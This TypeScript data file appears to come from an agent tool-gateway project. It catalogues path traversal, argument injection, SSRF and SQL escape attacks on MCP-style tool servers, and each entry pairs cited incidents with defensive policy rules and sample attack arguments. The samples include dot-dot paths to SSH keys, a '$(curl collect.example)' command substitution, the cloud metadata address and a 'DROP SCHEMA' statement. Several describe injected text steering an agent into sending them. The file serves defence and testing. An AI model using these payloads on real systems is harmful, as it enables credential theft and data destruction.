import type { Attack } from './attack.ts'

const text = { type: 'string' }

export const argumentAttacks: readonly Attack[] = [
  {
    slug: 'path-traversal',
    title: 'Path traversal',
    layer: 'arguments',
    summary: 'A tool that reads one folder is given a path that leads out of it, to keys and settings.',
    how: [
      'A server is told which folder it may read, and compares the beginning of each path with it.',
      'A path with two dots begins inside and ends outside.',
      'A folder with a longer name begins with the same letters.',
      'The server opens what the path means, not what it looks like.',
    ],
    incidents: [
      {
        date: '2025-07-01',
        kind: 'flaw',
        text: 'CVE-2025-53110 and CVE-2025-53109: the reference Filesystem server took a longer folder name for its own folder, and followed links out of it.',
        source: 'Cymulate',
        link: 'https://cymulate.com/blog/cve-2025-53109-53110-escaperoute-anthropic/',
      },
      {
        date: '2026-01-20',
        kind: 'flaw',
        text: 'CVE-2025-68145 and CVE-2025-68143: the reference Git server did not hold paths against the repository that it was started for.',
        source: 'The Register',
        link: 'https://www.theregister.com/2026/01/20/anthropic_prompt_injection_flaws/',
      },
    ],
    uses: [
      { trait: 'path', how: 'The path leads out of the folder, to keys and settings.', stop: 'conditions' },
    ],
    reach: 'part',
    rule: 'Below the folder, to the slash, without dots',
    leaves: [
      'The rule reads the path as text. Where a link in the folder leads is known only to the machine that opens it.',
    ],
    tools: [
      {
        name: 'read_file',
        description: 'Reads a file.',
        inputSchema: { type: 'object', properties: { path: text }, required: ['path'] },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "read_file": {
      "require": [
        {
          "conditions": [
            {
              "path": "args.path",
              "op": "regex",
              "value": "^/workspace/"
            }
          ],
          "on_deny": "Files below /workspace/ may be read"
        }
      ],
      "deny_if": [
        {
          "conditions": [
            {
              "path": "args.path",
              "op": "regex",
              "value": "(?i)\\.\\.|%2e|\\\\"
            }
          ],
          "on_deny": "Write the path without two dots"
        }
      ]
    }
  }
}`,
    stop: { code: 'deny_if', rule: '/tools/read_file/deny_if/0' },
    attempts: [
      { label: 'Two dots', args: '{ "path": "/workspace/../home/ana/.ssh/id_ed25519" }', result: 'denied' },
      { label: 'A longer name', args: '{ "path": "/workspace_private/keys.txt" }', result: 'denied' },
      { label: 'Encoded dots', args: '{ "path": "/workspace/%2e%2e/etc/passwd" }', result: 'denied' },
      { label: 'As intended', args: '{ "path": "/workspace/README.md" }', result: 'allowed' },
      {
        label: 'Through a link',
        args: '{ "path": "/workspace/link-to-home/notes" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
  {
    slug: 'argument-injection',
    title: 'Command and argument injection',
    layer: 'arguments',
    summary:
      'An argument becomes part of a command line, and a value that begins with a dash or a dollar sign runs.',
    how: [
      'A tool passes its arguments on to a program: git, curl, a shell.',
      'The server trusts the value, because it comes from a model and not from a form on the web.',
      'Injected text has the agent send an option instead of a name, or a command inside of one.',
      'The program does what it is told, with the rights of the server.',
    ],
    incidents: [
      {
        date: '2025-10-07',
        kind: 'flaw',
        text: 'CVE-2025-53967: the Framelink Figma server built a command line from an argument and ran it in a shell.',
        source: 'Imperva',
        link: 'https://www.imperva.com/blog/another-critical-rce-discovered-in-a-popular-mcp-server/',
      },
      {
        date: '2026-01-20',
        kind: 'flaw',
        text: 'CVE-2025-68144: the reference Git server handed arguments to git as they came, so that an option could stand where a branch was meant.',
        source: 'The Register',
        link: 'https://www.theregister.com/2026/01/20/anthropic_prompt_injection_flaws/',
      },
    ],
    uses: [
      {
        trait: 'runs_on_host',
        how: 'A value that should be a name is an option or a command.',
        stop: 'conditions',
      },
      { trait: 'runs_code', how: 'A value that should be data is run.', stop: 'conditions' },
    ],
    reach: 'part',
    rule: 'Only what a name can be',
    leaves: [
      'The flaw stays in the server, and other arguments of it may have the same. Update it; the rule is the door in front, not the repair.',
      'A tool whose purpose is to run any command cannot be made safe by a pattern. Hide it.',
    ],
    tools: [
      {
        name: 'git_diff',
        description: 'Shows the differences between the working tree and a branch or commit.',
        inputSchema: {
          type: 'object',
          properties: { repo_path: text, target: text },
          required: ['repo_path', 'target'],
        },
      },
    ],
    policy: `{
  "version": "1",
  "default": "deny",
  "tools": {
    "git_diff": {
      "require": [
        {
          "conditions": [
            {
              "path": "args.target",
              "op": "regex",
              "value": "^[A-Za-z0-9][A-Za-z0-9._/-]{0,99}$"
            }
          ],
          "on_deny": "Name a branch or a commit"
        },
        { "path": "args.repo_path", "op": "eq", "value": "/workspace/app" }
      ]
    }
  }
}`,
    stop: { code: 'require', rule: '/tools/git_diff/require/0' },
    attempts: [
      {
        label: 'An option',
        args: '{ "repo_path": "/workspace/app", "target": "--output=/home/ana/.bashrc" }',
        result: 'denied',
      },
      {
        label: 'A command inside',
        args: '{ "repo_path": "/workspace/app", "target": "main$(curl collect.example)" }',
        result: 'denied',
      },
      {
        label: 'As intended',
        args: '{ "repo_path": "/workspace/app", "target": "main" }',
        result: 'allowed',
      },
    ],
  },
  {
    slug: 'ssrf',
    title: 'Requests into your own network',
    layer: 'arguments',
    summary:
      'A tool that fetches addresses is given one inside your network, where it stands and the attacker does not.',
    how: [
      'The server runs in your cloud. From there it reaches addresses that nobody outside does.',
      'The agent is asked to “convert this page”, and the page is the address that hands out the machine’s credentials.',
      'The same address has many spellings: decimal, in IPv6, as a name that resolves to it.',
      'The answer, credentials included, goes back into the conversation.',
    ],
    incidents: [
      {
        date: '2026-01',
        kind: 'research',
        text: 'Microsoft’s MarkItDown server fetched any address that it was given; on a cloud machine that included the one with the machine’s credentials.',
        source: 'BlueRock',
        link: 'https://www.bluerock.io/post/mcp-furi-microsoft-markitdown-vulnerabilities',
      },
    ],
    uses: [{ trait: 'url', how: 'The address is one inside your network.', stop: 'conditions' }],
    reach: 'part',
    rule: 'Name the hosts that may be fetched',
    leaves: [
      'The rule reads the address as text. A host that you allow and whose name resolves into your network passes; only the machine that connects can see that.',
      'A list of forbidden addresses is no substitute: there is always another spelling.',
    ],
    tools: [
      {
        name: 'convert_to_markdown',
        description: 'Fetches a resource by its URI and converts it to Markdown.',
        inputSchema: { type: 'object', properties: { uri: text }, required: ['uri'] },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "convert_to_markdown": {
      "require": [
        {
          "conditions": [
            {
              "path": "args.uri",
              "op": "regex",
              "value": "^https://([a-z0-9-]+\\.)*acme\\.example/"
            }
          ],
          "on_deny": "Pages of acme.example may be converted"
        }
      ]
    }
  }
}`,
    stop: { code: 'require', rule: '/tools/convert_to_markdown/require/0' },
    attempts: [
      {
        label: 'The metadata address',
        args: '{ "uri": "http://169.254.169.254/latest/meta-data/" }',
        result: 'denied',
      },
      {
        label: 'The same in IPv6',
        args: '{ "uri": "http://[::ffff:a9fe:a9fe]/latest/meta-data/" }',
        result: 'denied',
      },
      { label: 'A file', args: '{ "uri": "file:///etc/passwd" }', result: 'denied' },
      { label: 'As intended', args: '{ "uri": "https://handbook.acme.example/leave" }', result: 'allowed' },
      {
        label: 'A name that leads inside',
        args: '{ "uri": "https://intranet.acme.example/admin" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
  {
    slug: 'sql-escape',
    title: 'SQL that does more than read',
    layer: 'arguments',
    summary:
      'A query tool that calls itself read-only is given a second statement, and the second one writes.',
    how: [
      'The server opens a transaction that may only read, and runs the text that it is given in it.',
      'The text begins by ending that transaction. What follows runs outside.',
      'Or a harmless looking text, stored earlier, is read by another agent as an order.',
      'The database role may write, so it does.',
    ],
    incidents: [
      {
        date: '2025-06',
        kind: 'flaw',
        text: 'The reference SQLite server put arguments into its statements as text, so that a stored value could carry an order for the next agent. It is archived.',
        source: 'Trend Micro',
        link: 'https://www.trendmicro.com/en_us/research/25/f/why-a-classic-mcp-server-vulnerability-can-undermine-your-entire-ai-agent.html',
      },
      {
        date: '2025-08-21',
        kind: 'flaw',
        text: 'The reference PostgreSQL server wrapped queries in a read-only transaction that a query could end, and so write. It is archived.',
        source: 'Datadog Security Labs',
        link: 'https://securitylabs.datadoghq.com/articles/mcp-vulnerability-case-study-SQL-injection-in-the-postgresql-mcp-server/',
      },
    ],
    uses: [{ trait: 'query', how: 'A second statement does what the first may not.', stop: 'conditions' }],
    reach: 'part',
    rule: 'One SELECT and nothing behind it',
    leaves: [
      'A pattern does not understand SQL. A SELECT can call a function that writes, or read every table.',
      'The guard that holds is a database role that can only read, and only what the agent needs.',
    ],
    tools: [
      {
        name: 'query',
        description: 'Runs a read-only SQL query.',
        inputSchema: { type: 'object', properties: { sql: text }, required: ['sql'] },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "query": {
      "require": [
        {
          "conditions": [
            {
              "path": "args.sql",
              "op": "regex",
              "value": "(?is)^\\s*select\\b[^;]*;?\\s*$"
            }
          ],
          "on_deny": "One SELECT statement at a time"
        }
      ],
      "limits": [{ "window": "minute", "max": 20, "scope": "grant" }]
    }
  }
}`,
    stop: { code: 'require', rule: '/tools/query/require/0' },
    attempts: [
      { label: 'Two statements', args: '{ "sql": "COMMIT; DROP SCHEMA public CASCADE;" }', result: 'denied' },
      {
        label: 'Behind a SELECT',
        args: '{ "sql": "SELECT 1; DELETE FROM orders" }',
        result: 'denied',
      },
      { label: 'As intended', args: '{ "sql": "SELECT id, name FROM plans" }', result: 'allowed' },
      {
        label: 'A function that writes',
        args: '{ "sql": "SELECT purge_orders()" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
]
